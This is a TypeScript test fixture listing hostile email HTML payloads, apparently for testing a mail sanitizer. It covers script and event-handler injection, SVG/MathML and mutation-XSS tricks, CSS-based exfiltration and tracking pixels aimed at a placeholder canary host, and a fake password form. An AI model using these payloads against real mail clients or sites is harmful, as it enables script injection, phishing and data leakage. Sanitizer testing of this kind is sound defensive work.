/** Where a mail that reaches out would be heard; nothing answers there. */
export const CANARY = 'http://canary.test';

/**
 * Mails that try to run a script, to load something or to leave their frame, by name. `window.ran` is what a
 * script that ran leaves behind.
 */
export const HOSTILE_MAILS: Readonly<Record<string, string>> = {
  // Scripts and handlers
  script: '<script>ran=1</script>',
  'script with source': `<script src="${CANARY}/s.js"></script>`,
  'nested script': '<scr<script>ipt>ran=1</scr</script>ipt>',
  'script in another case': '<ScRiPt>ran=1</sCrIpT>',
  'script without an end': '<script>ran=1//',
  'image handler': '<img src=x onerror="ran=1">',
  'image handler without quotes': '<img/src=x/onerror=ran=1>',
  'handler with a line break': '<img src=x onerror\n=\n"ran=1">',
  'body handlers': '<body onload="ran=1" onpageshow="ran=1">',
  'focus handler': '<a tabindex=1 autofocus onfocus="ran=1">x</a>',
  'details handler': '<details open ontoggle="ran=1">x</details>',
  'animation handler':
    '<style>@keyframes a{}</style><b style="animation:a 1s" onanimationstart="ran=1">x</b>',
  'transition handler': '<b style="transition:1s" ontransitionrun="ran=1">x</b>',
  'marquee handler': '<marquee onstart="ran=1">x</marquee>',
  'pointer handler': '<p onpointerover="ran=1" onmouseover="ran=1">x</p>',
  'slot handler': '<template shadowrootmode=open><slot onslotchange="ran=1"></slot></template>',
  'nul inside a tag': '<img src=x one\0rror="ran=1"><scr\0ipt>ran=1</scr\0ipt>',
  // SVG and MathML
  'svg handler': '<svg onload="ran=1"></svg>',
  'svg script': '<svg><script>ran=1</script></svg>',
  'svg script by reference': `<svg><script href="${CANARY}/s.js"/></svg>`,
  'svg animate values':
    '<svg><a><animate attributeName=href values=javascript:ran=1 /><text>x</text></a></svg>',
  'svg animate from': '<svg><a><animate attributeName=href from=javascript:ran=1 to=x /></a></svg>',
  'svg animate by': '<svg><a><animate attributeName=href by=javascript:ran=1 /></a></svg>',
  'svg set': '<svg><set attributeName=onmouseover to="ran=1"/></svg>',
  'svg animate handler': '<svg><animate onbegin="ran=1" attributeName=x dur=1s /></svg>',
  'svg use': `<svg><use href="${CANARY}/u.svg#x"/></svg>`,
  'svg image': `<svg><image href="${CANARY}/i.png" xlink:href="${CANARY}/i.png"/></svg>`,
  'svg feImage': `<svg><filter id=f><feImage href="${CANARY}/f.svg"/></filter></svg>`,
  'svg fill by address': `<svg><rect fill="url(${CANARY}/f.svg#x)" width=9 height=9 /></svg>`,
  'svg style': `<svg><style>@import "${CANARY}/c.css";</style></svg>`,
  'svg foreignObject':
    '<svg><foreignObject><iframe srcdoc="<script>parent.ran=1</script>"></iframe></foreignObject></svg>',
  'mathml link':
    '<math><maction actiontype="statusline" xlink:href="javascript:ran=1">x</maction></math>',
  'mathml annotation':
    '<math><annotation-xml encoding="text/html"><script>ran=1</script></annotation-xml></math>',
  // Documents inside documents
  iframe: `<iframe src="${CANARY}/frame"></iframe>`,
  'iframe with srcdoc': '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  'iframe with javascript': '<iframe src="javascript:parent.ran=1"></iframe>',
  object: `<object data="${CANARY}/o"></object><object data="data:text/html,<script>parent.ran=1</script>"></object>`,
  embed: `<embed src="${CANARY}/e">`,
  applet: `<applet code="${CANARY}/a"></applet>`,
  frameset: `<frameset><frame src="${CANARY}/f"></frameset>`,
  portal: `<portal src="${CANARY}/p"></portal>`,
  // Head elements
  'meta refresh': `<meta http-equiv=refresh content="0;url=${CANARY}/m">`,
  'meta refresh to javascript': '<meta http-equiv=refresh content="0;url=javascript:ran=1">',
  'meta set-cookie': '<meta http-equiv="Set-Cookie" content="a=b">',
  base: `<base href="${CANARY}/"><a href="/x">x</a><img src="x.png">`,
  'link stylesheet': `<link rel=stylesheet href="${CANARY}/l.css">`,
  'link preconnect': `<link rel=preconnect href="${CANARY}"><link rel=dns-prefetch href="${CANARY}">`,
  'link prefetch': `<link rel=prefetch href="${CANARY}/p"><link rel=preload as=image href="${CANARY}/q"><link rel=modulepreload href="${CANARY}/m.js">`,
  'link icon': `<link rel=icon href="${CANARY}/i.ico"><link rel=manifest href="${CANARY}/m.json">`,
  // Pictures and media
  'tracking pixel': `<img src="${CANARY}/pixel.gif?who=you" width=1 height=1>`,
  'remote picture': `<img src="${CANARY}/big.png" alt="Big" width=200>`,
  'picture without scheme': '<img src="//canary.test/p.png">',
  srcset: `<img srcset="${CANARY}/1.png 1x, ${CANARY}/2.png 2x"><picture><source srcset="${CANARY}/3.png"><img></picture>`,
  'lowsrc and dynsrc': `<img lowsrc="${CANARY}/l.png" dynsrc="${CANARY}/d.avi" longdesc="${CANARY}/x">`,
  background: `<body background="${CANARY}/b.png"><table background="${CANARY}/t.png"><tr><td background="${CANARY}/d.png">x</table>`,
  video: `<video src="${CANARY}/v.mp4" poster="${CANARY}/v.png" autoplay></video>`,
  audio: `<audio src="${CANARY}/a.mp3" autoplay></audio><bgsound src="${CANARY}/b.mid">`,
  track: `<video><source src="${CANARY}/v.mp4" onerror="ran=1"><track default src="${CANARY}/t.vtt"></video>`,
  'input image': `<input type=image src="${CANARY}/i.png" onerror="ran=1">`,
  'image map': `<map name=m><area href="javascript:ran=1" coords=0,0,9,9></map><img usemap="#m" ismap>`,
  // Style sheets
  'css url': `<p style="background:url(${CANARY}/c.png)">x</p>`,
  'css escaped url': `<p style="background:u\\72l(${CANARY}/e.png)">x</p><p style="background:\\75\\72\\6c(${CANARY}/f.png)">x</p>`,
  'css unclosed url': `<p style="background:url(${CANARY}/u.png">x</p><style>p{background:url("${CANARY}/v.png</style>`,
  'css url with comment': `<p style="background:/**/url(/**/${CANARY}/k.png)">x</p>`,
  'css image-set': `<p style="background:image-set('${CANARY}/1.png' 1x);background:-webkit-image-set(url(${CANARY}/2.png) 1x)">x</p>`,
  'css image function': `<p style="background:image('${CANARY}/1.png');background:cross-fade(url(${CANARY}/2.png),red)">x</p>`,
  'css var': `<style>:root{--u:url(${CANARY}/v.png)}p{background:var(--u)}</style><p style="--w:url(${CANARY}/w.png);background:var(--w)">x</p>`,
  'css import': `<style>@import "${CANARY}/i.css";@import url(${CANARY}/j.css);@\\69mport "${CANARY}/k.css";</style>`,
  'css font-face': `<style>@font-face{font-family:a;src:url(${CANARY}/f.woff)}p{font-family:a}</style><p>x</p>`,
  'css exfiltration': `<style>[href^="https://a"]{background:url(${CANARY}/a)}p:has(b){content:url(${CANARY}/b)}</style><p><b>x</b>`,
  'css visited': `<style>a:visited{background:url(${CANARY}/seen)}</style><a href="${CANARY}/">x</a>`,
  'css list and cursor': `<ul style="list-style-image:url(${CANARY}/l.png);cursor:url(${CANARY}/c.cur),auto"><li>x</ul>`,
  'css content and mask': `<style>p::before{content:url(${CANARY}/c.png)}p{mask:url(${CANARY}/m.svg);filter:url(${CANARY}/f.svg#x);border-image:url(${CANARY}/b.png) 1}</style><p>x</p>`,
  'css expression':
    '<p style="width:expression(ran=1);behavior:url(x.htc);-moz-binding:url(x.xml)">x</p>',
  'css fixed':
    '<div style="position:fixed !important;inset:0;z-index:2147483647;background:red">x</div><div style="position:sticky;top:0">y</div>',
  'css supports': `<style>@supports (display:grid){p{background:url(${CANARY}/s.png)}}@layer a{p{background:url(${CANARY}/t.png)}}@media all{@media all{p{background:url(${CANARY}/u.png)}}}</style><p>x</p>`,
  'css namespace': `<style>@namespace url(${CANARY}/n);@charset "utf-7";@page{background:url(${CANARY}/p.png)}</style>`,
  'css that ends the style':
    '<style>p::before{content:"\\3c/style\\3e\\3cimg src=x onerror=ran=1\\3e"}</style><p>x</p>',
  'css in a comment': `<style><!-- @import "${CANARY}/h.css"; --></style><!--[if mso]><img src="${CANARY}/mso.png"><![endif]-->`,
  // Links and forms
  'javascript link':
    '<a href="javascript:ran=1">x</a><a href="JaVa\tScRiPt:ran=1">y</a><a href=" &#1;javascript:ran=1">z</a>',
  'data link':
    '<a href="data:text/html,<script>ran=1</script>">x</a><a href="vbscript:ran=1">y</a><a href="blob:x">z</a>',
  'link with ping': `<a href="https://good.test" ping="${CANARY}/ping" target=_top download>x</a>`,
  'xlink and formaction':
    '<button formaction="javascript:ran=1" form=f>x</button><a xlink:href="javascript:ran=1">y</a>',
  form: `<form action="${CANARY}/form" method=post><input name=password type=password autofocus><button>Sign in</button></form>`,
  'form to us':
    '<form action="/inbox" method=post enctype=multipart/form-data><input name="$ACTION_ID_00"><input type=submit></form>',
  'isindex and keygen': `<isindex action="${CANARY}/i"><keygen onfocus="ran=1" autofocus><select autofocus onfocus="ran=1"></select>`,
  dialog:
    '<dialog open onclose="ran=1">x</dialog><p popover id=p ontoggle="ran=1">x</p><button popovertarget=p>y</button>',
  'clobbered document':
    '<img name=body><img name=documentElement><form name=querySelector><input name=attributes></form><a id=x name=x>',
  // Trees that change when they are read again
  'mxss noscript': '<noscript><p title="</noscript><img src=x onerror=ran=1>"></noscript>',
  'mxss template': '<template><img src=x onerror="ran=1"><script>ran=1</script></template>',
  'mxss math style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran=1&gt;">',
  'mxss svg title': '<svg></p><style><a id="</style><img src=1 onerror=ran=1>">',
  'mxss form nesting':
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran=1>',
  'mxss xmp':
    '<xmp><p title="</xmp><img src=x onerror=ran=1>"></xmp><noembed><p title="</noembed><img src=x onerror=ran=1>">',
  'mxss textarea':
    '<textarea><p title="</textarea><img src=x onerror=ran=1>"></textarea><title><a title="</title><img src=x onerror=ran=1>">',
  'mxss comment': '<!--><img src=x onerror=ran=1>--><!-- --!><img src=x onerror=ran=1> -->',
  'mxss cdata':
    '<svg><![CDATA[><img src=x onerror=ran=1>]]></svg><![CDATA[<img src=x onerror=ran=1>]]>',
  'mxss select':
    '<select><template><style><!--</template><a id="--><img src=x onerror=ran=1>"></select>',
  'mxss annotation':
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror="ran=1"></style></annotation-xml></math>',
  'mxss plaintext': '<svg><desc><plaintext><img src=x onerror=ran=1>',
  'mxss deep nesting': `${'<div>'.repeat(520)}<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran=1&gt;">`,
  'processing instruction':
    '<?xml-stylesheet href="javascript:ran=1"?><!ENTITY x "y"><?import namespace="t"><p>x',
  'markers of ours': `<img data-remote-src="javascript:ran=1" data-cid='"><script>ran=1</script>'><p data-remote-src="${CANARY}/x" data-cid=x>x</p><a data-host="bank.test" data-warning=x>x</a>`,
};
